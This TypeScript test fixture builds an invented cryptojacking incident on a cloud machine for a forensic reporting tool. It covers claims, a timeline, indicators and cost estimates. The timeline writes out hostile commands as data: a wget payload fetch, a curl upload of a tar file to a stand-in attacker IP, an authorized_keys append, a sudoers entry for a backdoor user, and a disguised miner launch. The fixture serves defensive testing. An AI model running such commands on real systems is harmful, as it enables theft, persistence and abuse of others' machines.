import { cite, coverageRef } from '../../src/model/evidence.ts';
import type { Cited } from '../../src/model/evidence.ts';
import type { Claim } from '../../src/model/claim.ts';
import type { Incident } from '../../src/model/incident.ts';
import { bareIncident } from '../incident-fixture.ts';

/** An invented intrusion on one machine: in by a stolen key at 08:15, a miner, a file sent away, cut off at 14:32. */
const uid = 'abcdef123456';
const machine = 'build-7';
const account = '123456789012';
const region = 'us-ashburn-1';

const at = (clock: string): string => `2026-02-10T${clock}Z`;
const by = (...names: readonly string[]): Cited =>
  cite(
    names.map((name, index) => ({ ref: `linux.auth:${name}`, time: at(`08:00:${String(index).padStart(2, '0')}`) })),
  );

const eve = { uid: `${machine}/deploy`, name: 'deploy' };
const olga = { uid: 'olga', name: 'olga' };
const guard = { uid: 'vendor.guard', name: 'vendor.guard' };

type Entry = Incident['timeline'][number];
const act = (clock: string, action: string, text: string, actor: Entry['actor'] = eve): Entry => ({
  time: at(clock),
  actor,
  action,
  target: null,
  text,
  ...by(clock),
});

const answers = [
  act('14:32:10', 'UpdateVnic', 'olga called UpdateVnic on vnic-7 in us-ashburn-1', olga),
  act('15:52:30', 'TerminateInstance', 'olga called TerminateInstance on build-7 in us-ashburn-1', olga),
];

const claim = (
  kind: string,
  text: string,
  [value, unit]: readonly [Claim['value'], string | null] = [null, null],
  evidence: Cited = by(kind),
): Claim => ({
  claim_uid: `${uid}-${kind}`,
  subject: machine,
  text,
  value,
  unit,
  confidence: 'likely',
  method: `how ${kind} was found`,
  contradicts: [],
  ...evidence,
});

const claims: readonly Claim[] = [
  claim('first-seen', "The intruder's first act was at 08:15:02", [at('08:15:02'), null]),
  claim('machines', `The intruder was at work on 1 machine: ${machine}`, [1, 'machine']),
  claim(
    'door-1',
    `The door to ${machine} was a sign-in of deploy with the key SHA256:abc from 203.0.113.89 at ${at('08:15:02')}`,
    ['203.0.113.89', null],
  ),
  claim(
    'door-guesses-1',
    `40 records tell of refused sign-ins on ${machine} from 198.51.100.100 and 2 more, 2026-02-09T13:00:00Z to 2026-02-10T08:09:31Z: noise, not the door: he came in by a key, which nobody guesses`,
    [40, 'record'],
  ),
  claim(
    'door-owner-1',
    'Before that somebody had signed in with that key 14 times from 198.51.100.7, never from 203.0.113.89',
    [14, 'sign-in'],
  ),
  claim('door-leak-1', "How the key got into the intruder's hands cannot be proven from logs"),
  claim('dwell-detection', '6 h 15 min passed from the first act to the first alert', [375, 'minute']),
  claim('dwell-containment', '6 h 17 min passed from the first act to the first answer to it', [377, 'minute']),
  claim('contained-from', `Others began to hold the intrusion back at ${at('14:32:10')}`, [at('14:32:10'), null]),
  claim(
    'response-isolation',
    `Responders held the intrusion back in 1 act at ${at('14:32:10')}`,
    [0, 'minute'],
    by('14:32:10'),
  ),
  claim('response-removal', `Responders ended things in 1 act at ${at('15:52:30')}`, [0, 'minute'], by('15:52:30')),
  claim('isolation-1', `No flow from ${machine} to outside is on record after it was cut off at ${at('14:32:10')}`, [
    0,
    'destination',
  ]),
  claim(
    'evidence-kept-1',
    `${machine} was ended at ${at('15:52:30')} by olga, and no record before tells of a copy of it`,
    [false, null],
  ),
  claim('mining-handled-1', `On ${machine} a miner was first laid down at ${at('08:20:10')}`, [at('08:20:10'), null]),
  claim('mining-command-1', `On ${machine} a miner was first run at ${at('08:30:08')}`, [at('08:30:08'), null]),
  claim('mining-connection-1', `On ${machine} a pool was first spoken to at ${at('08:35:02')}`, [at('08:35:02'), null]),
  claim('mining-time-1', `${machine} can have mined for 5 h 55 min, from ${at('08:35:00')} to ${at('14:30:00')}`, [
    5.92,
    'hour',
  ]),
  claim('cpu-usual-1', `Before the intrusion the processors of ${machine} were busy at 14 % to 19 %`, [
    19.4,
    'percent',
  ]),
  claim('cpu-level-1', `From ${at('08:35:00')} on the processors of ${machine} were busy at 98 % (98 % to 99 %)`, [
    98,
    'percent',
  ]),
  claim('cpu-time-1', 'That lasted 5 h 55 min, until the measurements end', [5.92, 'hour']),
  claim('sent-1', `Since the first act ${machine} sent 2.3 GB in all`, [2_296_045_712, 'byte']),
  claim('sent-before-alert-1', `In the hour before the first alert ${machine} sent 2.3 GB`, [2_292_000_965, 'byte']),
  claim('sent-peak-1', `In its busiest hour ${machine} sent 1.2 GB`, [1_176_406_367, 'byte']),
  claim('sent-usual-1', `Before the intrusion ${machine} sent 47 MB a day`, [47_467_244, 'byte a day']),
  claim('sent-to-1-1', `${machine} sent 2.3 GB to 203.0.113.89 port 8080 in 57 flows`, [2_290_000_000, 'byte']),
  claim('sent-to-pools-1', 'To 192.0.2.120 port 3333, where it mined, it sent 2.9 MB', [2_857_032, 'byte']),
  claim(
    'taken-1',
    `deploy sent /var/tmp/b.tar from ${machine} to 203.0.113.89 port 8080 by curl at ${at('13:31:05')}; 2.3 GB went there`,
    [2_290_000_000, 'byte'],
  ),
  claim('sent-unexplained-1', `Of what ${machine} sent, 2.3 GB are not explained by mining`, [2_288_945_712, 'byte']),
  claim('mining-volume-1', 'Mining for 5 h 55 min sends 7.1 MB at most', [7_100_000, 'byte']),
  claim('cost', 'At list prices the intrusion cost about 3.43 USD', [3.43, 'USD']),
  claim('cost-diverted', 'Of that, about 3.43 USD is capacity that ran before and is paid for anyway', [3.43, 'USD']),
  claim('cost-line-1', '1 × shape: 5.92 hours in all, about 3.43 USD', [3.43, 'USD']),
  claim('hash-rate', 'The processors that mined make about 9.4 kH/s together', [9410, 'H/s']),
  claim('earnings-xmr', 'In 5.92 hours that is about 0.00042 XMR, or about 0.05 USD', [0.00042, 'XMR']),
  claim('earnings-need', 'To earn 50 USD in that time would take 9.4 MH/s', [9_389_671, 'H/s']),
  claim('regions', 'The intruder acted in 1 region', [1, 'region']),
  claim('accounts', 'The intruder acted in 1 account', [1, 'account']),
  claim('held', 'The intruder held 1 credential, sessions included', [1, 'credential']),
];

const seen = (source: string): Incident['coverage'][number] => ({
  cloud: 'oci',
  account,
  region,
  source,
  state: 'seen',
  first: at('00:00:00'),
  last: at('18:00:00'),
  count: 900,
});
const unseen = {
  cloud: 'oci',
  account,
  region: 'us-phoenix-1',
  source: 'oci.vcn-flow',
  state: 'unknown',
  first: null,
  last: null,
  count: 0,
} as const;

const indicator = (type: Incident['indicators'][number]['type'], value: string, role: string, clock: string) => ({
  type,
  value,
  role,
  first_seen: at(clock),
  last_seen: at(clock),
  ...by(clock),
});

const rate = (end: string, value: number) => ({
  name: `RandomX rate of one thread, ${end}`,
  value,
  unit: 'H/s',
  ...by('rates'),
});

export const machineIncident: Incident = {
  ...bareIncident,
  incident_uid: uid,
  title: `Leaked key of deploy ran a miner on ${machine}`,
  kind: 'cryptojacking',
  severity: { level: 'high', score: 72, why: 'a miner ran' },
  first_seen: at('08:09:12'),
  last_seen: at('14:40:00'),
  detected_at: at('14:30:15'),
  alerts: [{ source: 'vendor.guard', claim: 'MINING on build-7', verdict: 'supported', ...by('14:30:15') }],
  root: { identity: eve, credential: 'SHA256:abc', why: 'first misused from 203.0.113.89', ...by('08:15:02') },
  root_absent_reason: null,
  root_cause: {
    text: 'A key of deploy is in other hands. How it got out no log tells.',
    confidence: 'likely',
    alternatives: ['brute force: noise, not the door: he came in by a key'],
    ...by('08:15:02'),
  },
  entry: { time: at('08:15:02'), how: 'Accepted', address: '203.0.113.89', ...by('08:15:02') },
  identities: [
    { ...eve, type: 'unknown', account: null, role: 'shared', ...by('08:15:02') },
    { uid: 'helper7', name: 'helper7', type: 'linux:user', account: null, role: 'intruder', ...by('08:18:01') },
  ],
  accounts: [account],
  regions: [region],
  credentials: [
    {
      uid: 'SHA256:abc',
      type: 'key',
      identity: eve,
      account: null,
      access: 'held',
      state: 'active',
      first_seen: at('08:15:02'),
      last_seen: at('08:15:02'),
      ...by('08:15:02'),
    },
  ],
  resources: [
    {
      uid: 'helper7',
      name: null,
      type: 'linux:user',
      shape: null,
      account: null,
      compartment: null,
      region: null,
      state: 'deleted',
      first_seen: at('08:18:01'),
      last_seen: at('15:52:30'),
      actor: eve,
      respawned_by: null,
      authorised: null,
      ...by('08:18:01'),
    },
    {
      uid: 'ocid1.instance.example',
      name: machine,
      type: 'compute:instance',
      shape: 'VM.Standard.E3.Flex',
      account,
      compartment: null,
      region,
      state: 'terminated',
      first_seen: at('08:09:12'),
      last_seen: at('15:52:30'),
      actor: eve,
      respawned_by: null,
      authorised: null,
      ...by('15:52:30'),
    },
  ],
  persistence: [
    {
      operation: 'ADD_USER',
      target: { uid: 'helper7', name: 'helper7' },
      account: null,
      region: null,
      time: at('08:18:01'),
      outcome: 'success',
      ended: { time: at('15:52:30'), ...by('15:52:30') },
      ...by('08:18:01'),
    },
  ],
  failed: [
    {
      time: at('08:09:12'),
      actor: eve,
      operation: 'Failed',
      shape: null,
      count: 3,
      account: null,
      region: null,
      error: 'authentication failed',
      ...by('08:09:12'),
    },
  ],
  timeline: [
    act(
      '08:09:12',
      'Failed',
      `root tried to sign in from 203.0.113.89 3 times until ${at('08:09:31')} on ${machine}, and was refused: authentication failed`,
    ),
    act('08:15:02', 'Accepted', `deploy signed in with the key SHA256:abc from 203.0.113.89 on ${machine}`),
    act('08:16:10', 'execve', `deploy ran tee -a /home/deploy/.ssh/authorized_keys on ${machine}`),
    act('08:17:05', 'execve', `deploy ran wget -q https://paste.example.net/raw/xyz -O /tmp/x.tgz on ${machine}`),
    act('08:18:01', 'ADD_USER', `deploy made the user helper7 on ${machine}`),
    act('08:20:10', 'COMMAND', `deploy ran /usr/bin/install -m 755 /tmp/xmrig /usr/bin/xmrig on ${machine}`),
    act('08:25:00', 'COMMAND', `deploy ran /usr/bin/tee /etc/sudoers.d/90-helper7 on ${machine}`),
    act(
      '08:30:08',
      'COMMAND',
      `deploy ran /tmp/.systemd/systemd-update -o stratum+tcp://pool.example.com:3333 on ${machine}`,
    ),
    act('08:35:02', 'A', `${machine} asked for the name pool.example.com`, { uid: machine, name: machine }),
    act('13:31:05', 'execve', `deploy ran curl -s -T /var/tmp/b.tar http://203.0.113.89:8080/u on ${machine}`),
    act('14:30:15', 'problem', 'vendor.guard raised an alert: MINING on build-7', guard),
    ...answers,
  ],
  containment: answers.map(({ time, actor, action, text, evidence, evidence_count }) => ({
    time,
    actor,
    action,
    text,
    evidence,
    evidence_count,
  })),
  data_exposure: {
    read: [],
    unknown: [{ what: 'objects read from the object store: not logged', why: 'no record of such a read' }],
    ...cite([{ ref: coverageRef(seen('oci.objectstorage')), time: null }]),
  },
  indicators: [
    indicator('ip', '203.0.113.89', 'the intruder called from here', '08:15:02'),
    indicator('ip', '192.0.2.120', 'a pool', '08:35:02'),
    indicator('port', '3333', 'of a pool', '08:35:02'),
    indicator('port', '8080', '203.0.113.89 was sent 2.3 GB there', '13:31:05'),
    indicator('domain', 'pool.example.com', 'a pool', '08:35:02'),
    indicator('url', 'https://paste.example.net/raw/xyz', "named in the intruder's commands", '08:17:05'),
    indicator('file', '/usr/bin/xmrig', 'laid down as a miner', '08:20:10'),
    indicator('hash', '7a8b9c0d1e2f00112233445566778899aabbccddeeff00112233445566778899', 'of a miner', '08:20:10'),
    indicator('user', 'helper7', 'made by the intruder', '08:18:01'),
    indicator('key', 'SHA256:abc', 'misused by the intruder', '08:15:02'),
  ],
  techniques: [
    { id: 'T1496.001', attack_version: '19.1', ...by('08:30:08') },
    { id: 'T1136.001', attack_version: '19.1', ...by('08:18:01') },
    { id: 'T1685.002', attack_version: '19.1', ...by('08:25:00') },
  ],
  claims,
  cost: {
    currency: 'USD',
    low: 2.75,
    likely: 3.43,
    high: 3.43,
    per_hour: 0,
    incremental: 0,
    as_of: at('18:00:00'),
    inputs: [{ name: 'shape: price', value: 0.58, unit: 'USD an hour', ...by('rates') }],
    ...by('cost'),
  },
  earnings: {
    currency: 'USD',
    low: 0.03,
    likely: 0.05,
    high: 0.07,
    per_hour: 0,
    incremental: null,
    as_of: at('18:00:00'),
    inputs: [rate('lowest', 210), rate('likely', 300), rate('highest', 360)],
    ...by('earnings'),
  },
  coverage: [...['linux.auth', 'oci.audit', 'oci.vcn-flow'].map(seen), unseen],
};
